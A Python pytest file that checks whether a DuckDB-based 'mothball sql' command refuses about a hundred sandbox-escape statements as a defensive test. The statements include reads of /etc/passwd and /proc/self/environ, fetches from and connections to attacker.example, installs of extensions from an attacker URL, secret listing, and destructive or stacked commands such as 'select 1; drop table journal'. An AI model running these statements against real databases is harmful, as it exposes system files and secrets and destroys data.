"""A hundred statements that try to get out of `mothball sql`, and none does."""

from __future__ import annotations

import os
from datetime import UTC, datetime
from pathlib import Path

import pytest

from queries.store.file import Store
from queries.store.user_sql import BadQuestion, answer
from tests.mothball.shop import Shop

# {file} is there and holds a secret, {folder} is its folder, {store} the store itself.
READS = """
from read_text('{file}')
from read_blob('{file}')
from read_csv('{file}')
from read_csv_auto('{file}')
from sniff_csv('{file}')
from read_json('{file}')
from read_json_auto('{file}')
from read_json_objects('{file}')
from read_ndjson('{file}')
from read_ndjson_objects('{file}')
from read_parquet('{file}')
from parquet_scan('{file}')
from parquet_metadata('{file}')
from parquet_schema('{file}')
from parquet_file_metadata('{file}')
from parquet_kv_metadata('{file}')
from parquet_bloom_probe('{file}', 'a', 1)
from '{file}'
from "{file}"
select * from '{folder}/*.csv'
from glob('{folder}/*')
from glob('/etc/*')
from read_text('/etc/passwd')
from read_text('/proc/self/environ')
from read_text(['{file}'])
from read_text('file://{file}')
from read_csv('https://attacker.example/x.csv')
from 's3://attacker/x.parquet'
from 'hf://datasets/attacker/x.csv'
from read_duckdb('{store}')
from sqlite_scan('{file}', 't')
from postgres_scan('host=attacker.example', 'public', 't')
from mysql_query('db', 'select 1')
from iceberg_scan('{folder}')
from delta_scan('{folder}')
from st_read('{file}')
from read_xlsx('{file}')
from read_avro('{file}')
select (select content from read_text('{file}'))
with x as (from read_text('{file}')) from x
select 1 union all select content from read_text('{file}')
select * from (values (1)) v, lateral (from read_text('{file}'))
from json_execute_serialized_sql(json_serialize_sql('from read_text(''{file}'')'))
from query('from read_text(''{file}'')')
from query_table('{file}')
pivot (from read_text('{file}')) on filename using count(*)
summarize from read_text('{file}')
describe from read_text('{file}')
select getenv('HOME')
from duckdb_secrets()
from which_secret('s3://x', 's3')
"""
WRITES = """
copy (select 1) to '{folder}/out.csv'
copy snapshots to '{folder}/out.parquet' (format parquet)
copy snapshots from '{file}'
copy from database store to other
export database '{folder}/out'
import database '{folder}'
attach '{folder}/other.duckdb'
attach ':memory:' as other
attach '{store}' as own (read_write)
detach store
use memory
create table t as select 1
create temp table t as select 1
create view v as select 1
create or replace view current_deployments as select 1
create macro m(x) as x
create schema s
create sequence s
create type t as enum ('a')
create index i on journal (sequence)
create secret s (type s3)
drop secret s
drop table journal
alter table journal add column x integer
insert into journal select * from journal
update journal set actor = 'x'
delete from journal
truncate journal
merge into journal using snapshots on false when matched then delete
checkpoint
force checkpoint
vacuum
analyze
begin
commit
rollback
"""
SETTINGS = """
install httpfs
force install httpfs from 'https://attacker.example'
load httpfs
load '{folder}/x.duckdb_extension'
update extensions
set enable_external_access = true
set lock_configuration = false
set memory_limit = '100GB'
set threads = 64
set temp_directory = '{folder}'
set variable x = 1
reset lock_configuration
reset memory_limit
pragma enable_profiling = 'json'
pragma profiling_output = '{folder}/out.json'
pragma database_list
pragma version
pragma show_tables
pragma disable_checkpoint_on_shutdown
/* a comment */ pragma version
call pragma_version()
call enable_logging()
from enable_logging(storage = 'file', storage_path = '{folder}/log')
from "enable_logging"()
from main . enable_logging /* a comment */ ()
select 'x'.write_log()
from checkpoint()
from force_checkpoint()
with a as (from enable_profiling()) from a
select sleep_ms(600000)
prepare p as select 1
execute p
explain analyze from read_text('{file}')
set python_enable_replacements = true
from store_of_python
select 1; from read_text('{file}')
select 1; drop table journal
"""
STATEMENTS = [line for group in (READS, WRITES, SETTINGS) for line in group.strip().splitlines()]
store_of_python = [("a variable of Python", "the-secret")]


def test_a_hundred_are_tried() -> None:
    assert len(set(STATEMENTS)) >= 100


@pytest.fixture(scope="module")
def fenced(tmp_path_factory: pytest.TempPathFactory) -> tuple[Store, Path]:
    """A store, and a folder with a file that it must not reach."""
    folder = tmp_path_factory.mktemp("fence")
    (folder / "files").mkdir()
    (folder / "files" / "secret.csv").write_text("a\nthe-secret\n")
    store = Store(folder / "store.duckdb")
    with store.writing():
        pass
    return store, folder / "files"


@pytest.mark.parametrize("statement", STATEMENTS)
def test_a_statement_that_tries_to_get_out_is_refused(
    fenced: tuple[Store, Path], statement: str
) -> None:
    store, folder = fenced
    before = store.path.read_bytes()
    given = {"file": folder / "secret.csv", "folder": folder, "store": store.path}
    with pytest.raises(BadQuestion) as caught:
        answer(store, statement.format(**given))
    assert "the-secret" not in str(caught.value)
    assert "\n" not in str(caught.value)
    assert os.listdir(folder) == ["secret.csv"]
    assert store.path.read_bytes() == before
    assert sorted(os.listdir(store.path.parent)) == ["files", "store.duckdb"]


@pytest.mark.parametrize(
    "question",
    [
        "select 'enable_logging()' as query",
        "-- pragma\nselect 1",
        "pivot journal on outcome in ('deleted') using count(*)",
        "describe journal",
        "summarize journal",
        "show tables",
        "with recursive n as (select 1 as i union all select i + 1 from n where i < 5) from n",
    ],
)
def test_a_question_that_only_looks_like_it_is_answered(
    fenced: tuple[Store, Path], question: str
) -> None:
    assert answer(fenced[0], question).names


def test_times_with_a_zone_are_answered_in_utc(fenced: tuple[Store, Path]) -> None:
    before = datetime.now(UTC).replace(tzinfo=None)
    found = answer(
        fenced[0],
        "select now() as a, timestamptz '2026-01-01 02:00:00+02' as a, [now()] as b, 1 as c",
    )
    assert found.names == ("a", "a", "b", "c")
    ((now, zoned, nested, one),) = found.rows
    assert before <= now <= datetime.now(UTC).replace(tzinfo=None)
    assert (zoned, one) == (datetime(2026, 1, 1, tzinfo=UTC).replace(tzinfo=None), 1)
    assert nested.startswith("['2")


def test_a_question_without_an_end_is_given_up_at_the_limit(fenced: tuple[Store, Path]) -> None:
    endless = "select sum(a.range * b.range) from range(100000000) a, range(100000000) b"
    with pytest.raises(BadQuestion, match=r"no answer within 0\.5 s.*--time-limit"):
        answer(fenced[0], endless, 0.5)
    assert answer(fenced[0], "select 1").rows == ((1,),)


def test_memory_and_rows_are_limited(fenced: tuple[Store, Path]) -> None:
    with pytest.raises(BadQuestion, match="[Mm]emory"):
        answer(fenced[0], "select array_agg(repeat('x', 1000) || range) from range(5000000)")
    with pytest.raises(BadQuestion, match="more than 1,000,000 rows"):
        answer(fenced[0], "from range(1000001)")


def test_the_time_limit_is_an_option(shop: Shop) -> None:
    result = shop.run("sql", "select now() as at", "--time-limit", "5", "--format", "json")
    assert datetime.fromisoformat(result.json[0]["at"])
    assert shop.run("sql", "select 1", "--time-limit", "0").code == 2
